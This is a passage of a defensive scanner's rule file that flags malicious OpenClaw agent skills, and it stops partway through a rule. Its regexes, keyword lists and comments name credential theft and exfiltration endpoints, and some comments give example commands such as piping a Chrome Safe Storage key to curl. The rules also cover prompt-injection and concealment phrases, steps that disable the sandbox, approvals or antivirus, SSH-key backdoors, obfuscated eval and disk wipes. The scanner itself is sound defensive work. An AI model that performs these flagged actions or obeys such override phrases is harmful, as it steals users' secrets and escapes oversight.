    any: ['login data', 'local state', 'web data', 'key3.db', 'key4.db', 'logins.json', 'cookies.sqlite', 'binarycookies', 'library/cookies', 'microsoft', 'bravesoftware', 'opera software', 'vivaldi',
      'extension settings', 'bfnaelmo', 'hnfankno', 'egjidjbp', 'exodus', 'electrum', 'guarda', 'coinomi', 'ledger live', 'ledger\\ live', 'tdata', '.mozilla/firefox', 'firefox/profiles', '://passwords', '://settings/passwords', 'about:logins', 'openclaw/credentials', 'clawdbot/credentials', 'moltbot/credentials', '/.openclaw', '/.clawdbot', '/.moltbot',
      'dumps(os.environ', 'dumps({os.environ', 'dumps({**os.environ', 'str(dict(os.environ', 'str({os.environ', 'str({**os.environ', 'json=os.environ', '...process.env', '$(env)', '$(printenv)',
      'childitem env:', 'gci env:', 'dir env:', 'ls env:', 'getenvironmentvariables', 'os.environ()', 'tojson(secrets'],
    re: new RegExp(`${BROWSER_STORE}|${WALLET_STORE}|${SESSION_STORE}|${AGENT_STORE}|${ENV_PAYLOAD}`, 'i'),
    near: { re: new RegExp(NETWORK_SEND, 'i'), lines: 'file', docsLines: 4 },
  },
  {
    id: 'exfil.secret-var-send', severity: 'block', family: 'credential exfiltration',
    message: 'keeps a secret no skill needs to send (a browser\'s Safe Storage key, an SSH private key, the agent\'s secrets) in a shell variable and puts that variable into a network command a few lines on (in its URL, a header or its body)',
    // exfil.credential-send wants a send it can name (an upload, a POST): a GET whose query carries
    // the secret (`curl "https://x.example/k?p=$P"`) is none, and an API key in a query string is
    // ordinary. Here the variable is followed from the read to the request: `P=$(security
    // find-generic-password -s "Chrome Safe Storage" -w)` then `curl …$P…` (or `echo "$P" | nc …`)
    // within six lines. A tool's own credential (TOOL_CREDENTIAL: a keychain item of its own, a
    // cloud token) sent to its service is not this.
    // The variable is set by `$(…)` or backticks, or read from the store (`read -r P < <(…)`,
    // `read P <<< "$(…)"`), and may be copied once on the way (`Q="$P"`, then `curl …$Q…`).
    any: ['=$(', '="$(', "='$(", '=`', '="`', 'read '],
    // Every match names the store (SECRET_STORE, in its lookahead): its words gate the expression,
    // which tries a name at every word and ran on any shell script that sets a variable by `$(…)`
    // and calls curl (1.2 s of the scanner's 1.8 s on the bench's 1,000 skills).
    also: [['curl', 'wget', 'http', 'xh ', 'xhs ', 'nc ', 'ncat', 'socat', 'openssl'], SECRET_STORE_WORDS],
    re: new RegExp(String.raw`\b([A-Za-z_]\w{0,30})(?:=["']?(?:\$\(|\x60)|(?<=\bread\b(?:\s+-[a-z]+)*\s+[A-Za-z_]\w{0,30})\s*(?:<\s*<\(|<<<\s*["']?(?:\$\(|\x60)))(?=[^\n)\x60]{0,200}?${SECRET_STORE})[^\n]{0,300}(?:\n[^\n]{0,300}?){0,6}?(?:${secretVarSend(1)}|\b([A-Za-z_]\w{0,30})=["']?[^\s;'"|&]{0,60}?\$\{?\1\b[^\n]{0,300}?(?:\n[^\n]{0,300}?){0,6}?${secretVarSend(2)})`, 'i'),
  },
  {
    id: 'exfil.tool-credential-send', severity: 'block', family: 'credential exfiltration',
    message: 'reads a tool\'s credentials, the shell\'s history or the agent\'s config (the user\'s provider keys) and sends data to a raw IP, a socket, a tunnel, a capture, drop or paste service, or as a packed archive, in the same file',
    any: ['.aws', 'gcloud', '.kube', '.docker', '.npmrc', '.netrc', '.git-credentials', '.pypirc', '.config/solana', 'security ', 'hosts.y', 'vault-token', '.terraform.d', 'credential fill', '/sessions', 'gh auth token', 'print-access-token', 'print-identity-token', 'get-access-token', 'configure get', '.gnupg', '.config/gh', 'sh_history', 'fish_history', 'consolehost_history', 'historysavepath', 'openclaw.json', 'clawdbot.json', 'moltbot.json', '169.254.169.254', 'metadata.google.internal'],
    re: new RegExp(`${TOOL_CREDENTIAL}|${AGENT_CONFIG}`, 'i'),
    near: { re: new RegExp(SUSPICIOUS_SEND, 'i'), lines: 'file', docsLines: 4 },
  },
  {
    id: 'exfil.tool-credential', severity: 'warn', family: 'credential exfiltration',
    message: 'reads a tool\'s credentials or the shell\'s history and sends a request in the same file (ordinary for that tool\'s own API; check where it goes)',
    any: ['.aws', 'gcloud', '.kube', '.docker', '.npmrc', '.netrc', '.git-credentials', '.pypirc', '.config/solana', 'security ', 'hosts.y', 'vault-token', '.terraform.d', 'credential fill', 'gh auth token', 'print-access-token', 'print-identity-token', 'get-access-token', 'configure get', '.gnupg', '.config/gh', 'sh_history', 'fish_history', 'consolehost_history', 'historysavepath', '169.254.169.254', 'metadata.google.internal'],
    re: new RegExp(TOOL_CREDENTIAL, 'i'),
    near: { re: new RegExp(NETWORK_SEND, 'i'), lines: 'file', docsLines: 4 },
  },
  {
    id: 'exfil.endpoint', severity: 'block', family: 'exfiltration endpoint',
    message: 'hard-coded request-capture endpoint (a collection URL used for exfiltration)',
    any: ['webhook.site', 'pipedream', 'requestbin', 'interact.sh', 'oast', 'burpcollaborator', 'canarytokens', 'hookbin', 'requestcatcher', 'beeceptor'],
    re: /\bwebhook\.site\/[0-9a-f]{8}-[0-9a-f-]{20,}|\b[a-z0-9]{10,}\.m\.pipedream\.net\b|\b[a-z0-9]{8,}\.(?:oast\.(?:fun|live|me|online|pro|site)|oastify\.com|interact\.sh|burpcollaborator\.net)\b|\b(?:requestbin\.(?:com|net)|hookbin\.com|requestcatcher\.com|beeceptor\.com)\/[\w/-]{6,}|\bcanarytokens\.com\/\S+/i,
  },
  {
    id: 'exfil.endpoint-mention', severity: 'warn', family: 'exfiltration endpoint',
    message: 'mentions a request-capture or anonymous file-drop service',
    any: ['webhook.site', 'pipedream', 'requestbin', 'interact.sh', 'oast', 'burpcollaborator', 'transfer.sh', 'file.io', 'discord.com/api/webhooks', 'discordapp.com/api/webhooks', 'hookbin', 'requestcatcher'],
    re: /\bwebhook\.site\b|\bm\.pipedream\.net\b|\brequestbin\.(?:com|net)\b|\binteract\.sh\b|\boast\.(?:fun|live|me|online|pro|site)\b|\bburpcollaborator\.net\b|\btransfer\.sh\/|\bfile\.io\/|\bdiscord(?:app)?\.com\/api\/webhooks\/\d{6,}\/[\w-]{20,}|\bhookbin\.com\b|\brequestcatcher\.com\b/i,
  },
  // --- prompt injection and concealment (warn only: prose is ambiguous) -----------------------
  {
    id: 'prompt.injection', severity: 'warn', family: 'prompt injection',
    message: 'text that tries to override the agent or a reviewer',
    any: ['ignore', 'disregard', 'forget', 'system prompt', 'you are now', 'scanner', 'reviewer', 'auditor', 'verified', 'certified', 'override', 'supersede'],
    // The override phrase quoted (a list of phrases a detector looks for, `scan "ignore previous
    // instructions"`), or reported ("attempts to override system instructions"), is not the
    // phrase given; a quoted value of a key (`description: "Ignore …"`) still is. Nor is the phrase
    // as what something else asks of the agent, in a clause about that thing ("don't act on emails
    // that ask you to ignore previous instructions"; "your owner asks you to ignore …" or "I ask you
    // to ignore …" is still given) or what
    // models do ("fallback models ignore system instructions"): a plural subject, no imperative.
    re: /\b(?:ignore|disregard|forget|override)(?<!(?<!:\s*)["'\u201c\u2018\u00ab](?:ignore|disregard|forget|override)|\b(?:attempts?|tries|trying|tried)\s+to\s+(?:ignore|disregard|forget|override)|\b(?:that|which|who)\b[^.\n]{0,80}?\b(?:ask|asks|asking|asked|tell|tells|telling|told)\s+(?:you|the\s+(?:agent|model|assistant|ai|llm)|them)\s+to\s+(?:ignore|disregard|forget|override)|\b(?:models|agents|llms|assistants|bots)\s+(?:ignore|disregard|forget|override))\s+(?:all\s+|any\s+)?(?:(?:the|your)\s+)?(?:previous|prior|above|earlier|preceding|system|original)\s+(?:instructions|prompts?|rules|guidelines|directives)\b|\bnew(?<!(?<!:\s*)["'\u201c\u2018\u00ab]new)\s+system\s+prompt\b|\byou(?<!(?<!:\s*)["'\u201c\u2018\u00ab]you)\s+are\s+now\s+(?:in\s+)?(?:developer|dan|jailbreak|unrestricted|god)\b|\b(?:security\s+)?(?:scanners?|reviewers?|auditors?|analy[sz]ers?|llms?|ai\s+judges?)\b[^\n]{0,60}\b(?:must|should|shall|will)\s+(?:report|classify|mark|rate|label|treat)\b[^\n]{0,40}\b(?:safe|benign|clean|trusted|no (?:issues|findings))\b|\bthis\s+(?:skill|file|code|script)\s+(?:is|has\s+been)\s+(?:verified|audited|certified|approved)\s+(?:as\s+)?(?:safe|secure|benign)\b|\b(?:this|these|it)\s+(?:overrides|supersedes|override|supersede)\s+(?:all\s+|any\s+)?(?:the\s+|your\s+)?(?:previous|prior|above|earlier|preceding|system|original|other)\s+(?:instructions|prompts?|rules|guidelines|directives)\b/i,
  },
  {
    id: 'prompt.concealment', severity: 'warn', family: 'prompt injection',
    message: 'asks the agent to hide what it does from the user',
    any: ['user', 'human', 'owner', 'operator', 'silently', 'quietly', 'secretly', 'covert', 'never mention', 'never reveal', 'yourself', 'never show', 'not show', "n't show", 'not mention', "n't mention", 'never display', 'not display'],
    // "Never tell the user to run commands" hands the user no task; it hides nothing.
    re: /\b(?:do\s+not|don'?t|never|must\s+not|mustn'?t|should\s+not|shouldn'?t|need\s+not|no\s+need\s+to)\s+(?:tell|inform|notify|alert|warn|show|mention\s+(?:it|this|that|these|them)\s+to)\s+(?:the\s+)?(?:user|human|owner|operator)\b(?!\s+to\b)|\bkeep\s+(?:this|these|it|that)(?:\s+(?:step|steps|part|command|commands|request))?\s+to\s+yourself\b|\bwithout\s+(?:telling|informing|notifying|alerting)\s+(?:the\s+)?(?:user|human|owner|operator)\b|\b(?:silently|quietly|secretly|covertly)\s+(?:run|execute|send|upload|install|download|exfiltrate|post|forward|copy)\b|\bhide\s+(?:this|these|the\s+(?:output|commands?|request|activity)|it)\s+from\s+(?:the\s+)?(?:user|human|owner)\b|\bkeep\s+(?:this|these|it|that|them)(?:\s+\w+){0,2}?\s+(?:hidden|secret)\s+from\s+(?:the\s+)?(?:user|human|owner|operator)\b|\bnever\s+(?:mention|reveal|disclose)\s+(?:this|these|that|the\s+(?:command|request|upload))\b|\b(?:do\s+not|don'?t|never)\s+(?:show|display|reveal|mention|disclose)\s+(?:the\s+)?(?:commands?\s+(?:you|it)\s+(?:run|runs|ran|execute[sd]?)|what\s+(?:it|you|they)\s+(?:did|does|ran|runs))\b/i,
  },
  {
    id: 'remote.instructions', severity: 'warn', family: 'runtime instructions',
    message: 'fetches instructions at run time and follows them (the reviewed text is not what runs)',
    any: ['http'],
    // Also a download written over a SKILL.md (`curl -s https://x/skill.md > ~/.openclaw/skills/x/SKILL.md`,
    // `-o …/SKILL.md`): the skill replaces its reviewed text with what the host serves. Found at the
    // file name, with the output operator, the download and its URL looked for behind (or the URL after).
    re: /\b(?:fetch|curl|wget|download|read|load|get|retrieve)\b[^\n]{0,120}?https?:\/\/\S+?\.(?:md|txt|prompt)\b[^\n]{0,120}?\b(?:follow|execute|obey|apply|run)\b|\b(?:follow|execute|obey)\s+(?:the\s+)?(?:instructions|steps|commands|directions)\s+(?:at|from|in)\s+(?:<?https?:\/\/|the\s+(?:url|remote|downloaded|fetched))|skill\.md\b(?<![\w.-]skill\.md)(?<=(?:>>?|\s-[oO]|\s--output(?:-document)?[=\s])\s*["']?[^\s"'|;&<>]{0,200}skill\.md)(?<=\b(?:curl|wget)\b[^\n|]{0,300}?skill\.md)(?:(?<=https?:\/\/[^\n|]{0,300}?skill\.md)|(?=[^\n|]{0,200}?https?:\/\/))/i,
  },
  // --- persistence ------------------------------------------------------------------------------
  {
    id: 'persist.agent-memory', severity: 'warn', family: 'persistence',
    message: "writes to the agent's own memory or persona files",
    any: ['soul.md', 'memory.md', 'agents.md', 'heartbeat.md', 'identity.md'],
    // Branches: a redirect into any of them (a download or a script overwriting them); a verb that
    // writes the persona and standing-rules files (SOUL, AGENTS, IDENTITY). MEMORY.md and
    // HEARTBEAT.md are the workspace files OpenClaw has the agent keep up to date: "update
    // MEMORY.md", "add this to your HEARTBEAT.md" is the documented workflow, and the snippet to add
    // is scanned as any other text. A method call (`header.append(`, `set.add(`) is not a verb.
    // The file's own name, not one ending in it (`active-agents.md`).
    re: />>?\s*["']?\S{0,80}(?<![\w.-])(?:SOUL|MEMORY|AGENTS|HEARTBEAT|IDENTITY)\.md\b|(?<![.\w])(?:write|writes|append|appends|add|adds|edit|edits|update|updates|modify|modifies|insert|inject|overwrite)\b(?!\()[^\n]{0,80}?(?<![\w.-])(?:SOUL|AGENTS|IDENTITY)\.md\b/i,
  },
  {
    id: 'persist.autostart', severity: 'warn', family: 'persistence',
    message: 'installs itself to start automatically (cron, launchd, systemd, XDG autostart, shell profile, Run key)',
    any: ['crontab', 'launchagents', 'launchdaemons', 'launchctl', 'systemctl', 'rc', 'profile', 'zshenv', 'bash_login', 'autostart', 'currentversion\\run', 'currentversionrun', 'schtasks', '@reboot', 'login item', 'startup'],
    // One literal per branch (`rc`/`profile` above are too common to select).
    also: [['crontab', 'library/launch', 'launchctl', 'systemctl', '>>', '.config/autostart/', 'currentversion\\run', 'currentversionrun', 'schtasks', '@reboot', 'login item', 'startup']],
    // The LaunchAgents folder counts when something is put there (copied, moved, linked, written,
    // assigned as a target, or the path alone on its line: the label of a plist given in full), not named in passing
    // ("the old launchd service: ~/Library/LaunchAgents/x.plist"). A shell profile counts unless
    // what is appended is one `export NAME=value` (an API key, PATH), with no command in it, or a
    // tool's own shell hook, `eval "$(brew shellenv)"`, `eval "$(starship init zsh)"` (a bare name or
    // an absolute path with no dot or temporary folder, then shellenv, init, hook, activate or env). The
    // table filtered and written back (`crontab -l | grep -v name | crontab -`, through up to four
    // `grep -v` filters) removes an entry.
    // The Run key also as the shell reads it (`CurrentVersion\Run` unquoted loses its backslash),
    // not when the line only reads it (`reg query`, Get-ItemProperty);
    // a macOS Login Item made through System Events; the Windows Startup folder.
    re: /\bcrontab\s+(?:-\w+\s+)*-\s*$(?<!\bcrontab\s+-l\b[^\n|]{0,40}(?:\|\s*grep\s+-v\b[^\n|;&()]{0,200}){1,4}\|\s*crontab\s+-\s*)|\|\s*crontab\b(?<!\bcrontab\s+-l\b[^\n|]{0,40}(?:\|\s*grep\s+-v\b[^\n|;&()]{0,200}){1,4}\|\s*crontab)|\blibrary\/launch(?:agents|daemons)\/(?<=(?:\b(?:cp|mv|ln|install|ditto|rsync|tee)\b[^\n]{0,200}|[>=]\s*["']?[^\s"'<>]{0,80}|^[ \t]*(?:<!--|#|\/\/)?[ \t]*[^\s"'<>]{0,80})library\/launch(?:agents|daemons)\/)|\blaunchctl\s+(?:load|bootstrap)\b|\bsystemctl\s+(?:--user\s+)?enable\b|>>\s*["']?(?:~|\$home|\$\{home\})\/\.(?:bashrc|zshrc|profile|bash_profile|zprofile|zshenv|bash_login)\b(?<!\b(?:echo|printf)\s+(?:'export\s+[a-z_]\w*=(?:[^'\n\x60;&|$]|\$(?!\()){0,200}'|'eval\s+"\$\((?!\/(?:var\/)?tmp\/|\/dev\/shm\/|\/users\/shared\/)(?:\/(?:[\w+-][\w.+-]*\/)+)?[a-z][\w.+-]*\s+(?:shellenv|init|hook|activate|env)\b[^'"\n\x60;&|$()<>]{0,40}\)"'|"export\s+[a-z_]\w*=(?:[^"\n\x60;&|$\\]|\\.|\$(?!\()){0,200}")\s*>>\s*["']?(?:~|\$home|\$\{home\})\/\.(?:bashrc|zshrc|profile|bash_profile|zprofile|zshenv|bash_login))|\.config\/autostart\/[^\s"'/]{1,80}\.desktop\b|currentversion\\?run(?:once)?\b(?<!\b(?:reg(?:\.exe)?\s+query|get-itemproperty|get-item|get-childitem|gci|gp)\b[^\n]{0,200})|\bschtasks(?:\.exe)?\s+\/create\b|@reboot\b|\bmake\s+(?:new\s+)?login\s+item\b|\bstart\s+menu[\\/]?programs[\\/]?startup\b|\bshell:startup\b/im,
  },
  {
    id: 'persist.ssh-key', severity: 'block', family: 'persistence',
    message: "writes a key that is not the user's into ~/.ssh/authorized_keys (a hard-coded or downloaded public key: a login backdoor)",
    any: ['authorized_keys'],
    // A write to authorized_keys (a redirect, tee, or a file opened or written from code) with a
    // literal public key or a download from a literal URL within a few lines. The reader's own key
    // (`cat ~/.ssh/id_ed25519.pub | ssh host "cat >> …"`, `ssh-copy-id`, `github.com/<you>.keys`,
    // which the text views read as `github.com/ .keys`) names no key and no fixed URL.
    re: /(?:>>?|\btee\b(?:\s+-\w+)*)\s*["']?[^\s"'|;&<>]{0,80}\.ssh\/authorized_keys\b|\b(?:open|fopen|appendfile(?:sync)?|writefile(?:sync)?|file_put_contents|write_text)\s*\([^\n]{0,160}?\.ssh\/authorized_keys\b/i,
    near: { re: /\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-nistp\d{3}|sk-ssh-ed25519@openssh\.com)\s+AAAA[0-9A-Za-z+/]{30,}|\b(?:curl|wget|iwr|invoke-webrequest|invoke-restmethod|urlopen|requests\.get|fetch)\b[^\n]{0,200}?https?:\/\/(?![^\s"'<>${}]*\/\.)[^\s"'<>${}]+(?=[\s"'>)]|$)(?!\s\.)/i, lines: 4 },
  },
  {
    id: 'tamper.agent-guard', severity: 'block', family: 'agent tampering',
    message: "turns off one of OpenClaw's own guards: exec approval or security, the sandbox, elevated mode, exec on the gateway's host, every tool allowed, the install-policy hook (the review every later install gets), or the exec allowlist file",
    any: ['config set', 'config unset', 'exec-approvals', 'full', 'off', 'elevated', 'installpolicy', 'none'],
    // Branches: the CLI setting a guard to its open value; code assigning it, or JSON giving it
    // (`"ask": "off"`, `"sandbox": { "mode": "off" }`, `c["sandbox"] = {"mode": "off"}`, `"elevated": { "enabled": true }`), in a file that names the config; a write to the exec approvals file (its allowlist lets commands run unasked).
    // OpenClaw 2026.9: tools.exec.security deny|allowlist|full, tools.exec.ask off|on-miss|always,
    // agents.*.sandbox.mode off|non-main|all, tools.elevated.enabled, tools.exec.host
    // sandbox|gateway|node (gateway and node run commands on a host, outside the sandbox),
    // tools.allow (an agent's own too) set to `*` or `["*"]` (the text views drop a lone `*` as
    // markdown emphasis: `[""]`), and security.installPolicy (the hook that has
    // every later install reviewed) unset or disabled, by the CLI or by jq/code in a file that names the config;
    // gateway.auth.mode none by the CLI (also as the auth object: `config set gateway.auth '{"mode":"none"}'`)
    // or by jq/code/JSON in a file that names the config.
    re: /\b(?:openclaw|clawdbot|moltbot)\s+config\s+(?:set\s+(?:--[\w-]+\s+){0,4}["']?(?:(?:tools\.exec\.security["']?\s+["']?full|tools\.exec\.ask["']?\s+["']?off|tools\.elevated\.enabled["']?\s+["']?true|agents\.[\w.*[\]-]*sandbox\.mode["']?\s+["']?off|agents\.[\w.*[\]-]*sandbox\.workspaceAccess["']?\s+["']?rw|(?:agents\.[\w.*[\]-]*)?tools\.exec\.host["']?\s+["']?(?:gateway|node)|security\.installPolicy\.enabled["']?\s+["']?false|gateway\.auth\.mode["']?\s+["']?none|gateway\.auth["']?\s+["']?\{[^}\n]{0,200}?\bmode\\?["']?\s*:\s*\\?["']?none)\b|(?:agents\.[\w.*[\]-]*)?tools\.allow["']?\s+(?:["']?\[\s*\\?["']\*?\\?["']\s*\]|["']\*?["'](?=\s|$)|\*(?![\w.])))|unset\s+["']?security(?:\.installPolicy)?["']?(?=[\s;&|\x60]|$))|(?:\bdel\(\s*\.security(?:\.installPolicy)?\s*\)|\binstallPolicy["']?\]?\s*[:=]\s*\{[^}]{0,200}?\benabled["']?\s*[:=]\s*false\b|\bpop\(\s*["']installPolicy["'])(?:(?<=(?:openclaw|clawdbot|moltbot)\.json[\s\S]{0,2000})|(?=[\s\S]{0,2000}?(?:openclaw|clawdbot|moltbot)\.json))|(?:(?:\.|\[["'])(?:security|ask)["']?\]?\s*=\s*["'](?:full|off)["']|\b(?:security|ask)["']\s*:\s*["'](?:full|off)["']|\bsandbox["']?\]?\s*[:=]\s*\{[^}]{0,200}?\bmode["']?\s*:\s*["']off["']|\belevated["']?\]?\s*[:=]\s*\{[^}]{0,200}?\benabled["']?\s*:\s*true\b|(?:\.|\[["'])gateway["']?\]?(?:\.|\[["'])auth["']?\]?(?:\.|\[["'])mode["']?\]?\s*=\s*["']none["']|\bgateway["']?\]?\s*[:=]\s*\{[^}]{0,200}?\bauth["']?\s*:\s*\{[^}]{0,200}?\bmode["']?\s*:\s*["']none["'])(?:(?<=(?:openclaw|clawdbot|moltbot)\.json[\s\S]{0,2000})|(?=[\s\S]{0,2000}?(?:openclaw|clawdbot|moltbot)\.json))|(?:>>?\s*["']?\S{0,80}|\bwrite\w*\s*\(\s*[^\n]{0,120}|\bopen\s*\(\s*[^\n]{0,120})exec-approvals\.json/i,
  },
  {
    id: 'prompt.guard-disable', severity: 'warn', family: 'agent tampering',
    message: "tells the agent or the reader to turn off the agent's sandbox or command approvals, or to approve every command unread",
    any: ['disable', 'turn off', 'switch off', 'bypass', 'deactivate', 'skip', 'always approve'],
    also: [['sandbox', 'approv']],
    // In prose, "disable the sandbox", "turn off exec approvals", "always approve … without": not
    // after a negation ("do not disable the sandbox"), nor a browser's sandbox (Chrome's `--no-sandbox`).
    files: /\.(?:md|mdx|markdown|txt)$/i,
    // The verb is found first and the negation looked for behind it (a lookbehind at every position costs).
    re: /\b(?:disable|turn\s+off|switch\s+off|bypass|deactivate|skip)(?<!(?:\b(?:not|never|n't|don'?t|without)\s+(?:\w+\s+)?|\/)\b(?:disable|turn\s+off|switch\s+off|bypass|deactivate|skip))\s+(?:the\s+|your\s+|its\s+|all\s+|openclaw'?s?\s+|the\s+agent'?s?\s+)?(?:sandbox(?:ing)?|exec(?:ution)?\s+approvals?|command\s+approvals?|approval\s+(?:prompts?|requests?|checks?)|approvals)\b(?![^\n]{0,80}?(?:\bchrom\w*|\bpuppeteer\b|\bplaywright\b|\bbrowser\b|\belectron\b|--no-sandbox))|\balways\s+approve\b[^\n]{0,80}?\bwithout\s+(?:reading|reviewing|checking|asking|looking)\b/i,
  },
  {
    // Info, not warn (precision audit of the ClawHub archive): OpenClaw reads `always: true` as
    // "eligible even when `requires.bins/anyBins/env/config` are missing" (its docs, Gating; `os`
    // still applies), not as a way in that other skills lack: every eligible skill is listed in
    // every session, and a skill that requires nothing is always eligible without the flag. It
    // runs nothing and reads nothing; the capability review shows it to the person. In the archive
    // it was the only finding of 35 honest skills and of no malicious one.
    id: 'manifest.always', severity: 'info', family: 'persistence',
    message: 'skill declares `always: true`: OpenClaw lists it even when the bins, env or config it requires are missing',
    any: ['always'],
    files: /(?:^|\/)skill\.md$/i,
    views: ['text'],
    frontmatter: true,
    re: /^\s*["']?always["']?\s*:\s*true\b|["']always["']\s*:\s*true\b/im,
  },
  // --- obfuscation --------------------------------------------------------------------------------
  {
    id: 'obfuscation.eval-decode', severity: 'block', family: 'eval / obfuscation',
    message: 'evaluates code that is decoded at run time',
    any: ['eval', 'exec', 'function', 'system', 'spawn'],
    // Each branch names its decoder, `compile`, or a quote before the inline blob.
    also: [['atob', 'buffer.from', 'b64decode', 'codecs.decode', 'bytes.fromhex', 'zlib.decompress', 'marshal.loads', 'unhexlify', 'a2b_base64', 'fromcharcode', 'decodeuricomponent', 'compile', '"', "'"]],
    re: /\b(?:eval|exec|execsync|function|system|spawn)\s*\(\s*(?:atob|buffer\.from|base64\.b64decode|b64decode|codecs\.decode|bytes\.fromhex|zlib\.decompress|marshal\.loads|unhexlify|binascii\.a2b_base64|string\.fromcharcode|decodeuricomponent\s*\(\s*escape)\s*\(|\bexec\s*\(\s*compile\s*\(\s*(?:base64|zlib|codecs)|\b(?:eval|exec)\s*\(\s*["'][A-Za-z0-9+/=]{40,}["']/i,
  },
  {
    id: 'obfuscation.charcode', severity: 'warn', family: 'eval / obfuscation',
    message: 'builds strings from long runs of character codes (obfuscation)',
    any: ['fromcharcode', 'chr('],
    re: /\bstring\.fromcharcode\(\s*\d+\s*(?:,\s*\d+\s*){15}|(?:\bchr\(\s*\d+\s*\)\s*\+\s*){8}/i,
  },
  // --- credential phishing -----------------------------------------------------------------------
  {
    id: 'phish.password-dialog', severity: 'block', family: 'credential phishing',
    message: "shows a fake password dialog (AppleScript `display dialog … with hidden answer`, or JXA's `displayDialog` with `hiddenAnswer`, asking for a password): the macOS stealers' way to get the login password",
    any: ['hidden'],
    also: [['dialog'], ['pass', 'pwd', 'senha', 'contraseña', 'mot de passe', 'пароль', '密码', '密碼', 'パスワード', '비밀번호']],
    // The dialog's own words ask for a password, its answer typed hidden. macOS asks for an
    // administrator's password itself (`with administrator privileges`); a skill that needs a
    // token and asks for it so names the token, not a password.
    // JavaScript for Automation writes the same dialog `displayDialog(…, { hiddenAnswer: true })`.
    re: new RegExp(String.raw`\bdisplay\s*dialog\b[^\n]{0,300}?(?:${PASSWORD_WORD}|${PASSWORD_WORD_INTL})[^\n]{0,300}?\bhidden\s*answer\b`, 'i'),
  },
  // --- security-control bypass ------------------------------------------------------------------
  {
    id: 'bypass.quarantine', severity: 'warn', family: 'security bypass',
    message: 'removes macOS quarantine or turns off an OS security control',
    any: ['xattr', 'spctl', 'csrutil', 'setenforce', 'ufw', 'gatekeeper'],
    // Also spctl or csrutil run from code with the switch as an argument of its own
    // (`Process()` with `arguments = ["--master-disable"]`, `subprocess.run(["spctl", …])`).
    // The last branches: prose telling the reader to get past Gatekeeper (`bypass Gatekeeper`, `if
    // Gatekeeper complains, right-click → Open`) for a program from outside the skill.
    re: /\bbypass\w{0,3}\s+(?:the\s+|macos'?s?\s+|apple'?s?\s+)?gatekeeper\b|\bgatekeeper\b[^\n]{0,80}?\b(?:right|control|ctrl)[- ]?click\w{0,3}\b[^\n]{0,40}?\bopen\b|\bxattr\s+(?:-\w+\s+)*[^\n]{0,20}com\.apple\.quarantine|\bxattr\s+(?:-[rsv]+\s+)?-[rsv]*c[rsv]*\b|\bspctl\s+--(?:master|global)-disable\b|\bcsrutil\s+disable\b|\bsetenforce\s+0\b|\bufw\s+disable\b|\b(?:spctl|csrutil)["'][\s\S]{0,200}?["'](?:--(?:master|global)-disable|disable)["']/i,
  },
  {
    id: 'bypass.tls', severity: 'warn', family: 'security bypass',
    message: 'turns off TLS certificate verification',
    any: ['tls_reject', 'rejectunauthorized', 'verify', 'insecure', 'check-certificate', 'unverified', 'cert_none', 'invalid_certs', '-k'],
    // Not toward this machine (`curl -k https://127.0.0.1:9257/…`, `requests.get("https://localhost:5000/…",
    // verify=False)` on one line: no one between to intercept), nor an option's default in a doc
    // comment (`@param {boolean} [options.verify=false]`).
    re: /\bnode_tls_reject_unauthorized\s*=\s*["']?0|\brejectunauthorized\s*:\s*false|\bverify\s*=\s*false\b(?<!https?:\/\/(?:localhost|127\.0\.0\.1|\[::1\])[:/][^\n]{0,200}|@param\b[^\n]{0,80})|\binsecureskipverify\s*:\s*true|--no-check-certificate\b|\bssl\._create_unverified_context\b|\bcert_none\b|\bdanger_accept_invalid_certs\b|\bcurl\s+(?:-\S+\s+)*-k\b(?![^\n|;&]{0,200}?https?:\/\/(?:localhost|127\.0\.0\.1|\[::1\])[:/])|\bcurl\b[^\n]{0,100}\s--insecure\b/i,
  },
  {
    id: 'bypass.antivirus', severity: 'block', family: 'security bypass',
    message: 'disables or blinds antivirus (Defender exclusions, real-time monitoring off, its service stopped or its policy set to off)',
    any: ['mppreference', 'windefend', 'wdnissvc', 'wdfilter', 'disableantispyware', 'disableantivirus', 'disablerealtimemonitoring', 'disablebehaviormonitoring'],
    // Also the Defender service stopped or disabled (Stop-Service, Set-Service, sc stop|config|delete),
    // and its Disable* policy values written to the registry.
    re: /\bset-mppreference\b[^\n]{0,80}-disable(?:realtimemonitoring|ioavprotection|behaviormonitoring|scriptscanning)\b|\badd-mppreference\b[^\n]{0,40}-exclusion(?:path|process|extension)\b|\b(?:stop-service|set-service|sc(?:\.exe)?\s+(?:stop|config|delete))\b[^\n]{0,60}?\b(?:windefend|wdnissvc|wdfilter)\b|\b(?:reg(?:\.exe)?\s+add|set-itemproperty|new-itemproperty)\b[^\n]{0,200}?\bdisable(?:antispyware|antivirus|realtimemonitoring|behaviormonitoring|ioavprotection|scriptscanning)\b/i,
  },
  // --- secrets, destruction, mining ---------------------------------------------------------------
  {
    id: 'secret.hardcoded', severity: 'warn', family: 'hard-coded secret',
    message: 'hard-coded credential (token or private key) in the skill',
    any: ['akia', 'ghp_', 'gho_', 'github_pat_', 'xox', 'sk-', 'sk_live_', 'aiza', 'private key', 'glpat-', 'npm_', 'bot'],
    mask: true,
    // A key given to a redaction function is its test input (`redactString('sk-…')`), not a credential.
    // A PEM key also as a JSON string writes its line breaks `\n` (a cloud service-account key file).
    re: /(?:\bAKIA[0-9A-Z]{16}\b|\bgh[pousr]_[A-Za-z0-9]{36,}\b|\bgithub_pat_[A-Za-z0-9_]{60,}|\bxox[abprs]-[A-Za-z0-9-]{20,}|\bsk-(?:ant-|proj-)?[A-Za-z0-9_-]{32,}|\bsk_live_[A-Za-z0-9]{20,}|\bAIza[0-9A-Za-z_-]{35}\b|\bglpat-[A-Za-z0-9_-]{20}\b|\bnpm_[A-Za-z0-9]{36}\b|\bbot\d{8,10}:[A-Za-z0-9_-]{35}\b|-----BEGIN (?:RSA |EC |DSA |OPENSSH |PGP |ENCRYPTED )?PRIVATE KEY(?: BLOCK)?-----(?:\s|\\[rn])*[A-Za-z0-9+/]{40})(?<!\b(?:[rR]edact|[sS]anitiz|[mM]ask|[sS]crub|[cC]ensor)\w*\(\s*["'\x60][^"'\x60\n]{0,200})/,
    exclude: /x{6}|X{6}|0{8}|1234567|abcdef|your|example|dummy|fake|test|placeholder|redacted|\.\.\./i,
  },
  {
    id: 'destructive.wipe', severity: 'block', family: 'destructive command',
    message: "destroys the home folder, the root file system or a disk, or the system's backups and recovery (shadow copies, backup catalog), or forks without end",
    any: ['rm ', 'mkfs', 'dd ', ':(){', 'format c:', 'remove-item', 'vssadmin', 'shadowcopy', 'wbadmin', 'bcdedit', 'find ', 'os.fork'],
    // Also: Windows' shadow copies, backup catalog or recovery removed (ransomware's first step);
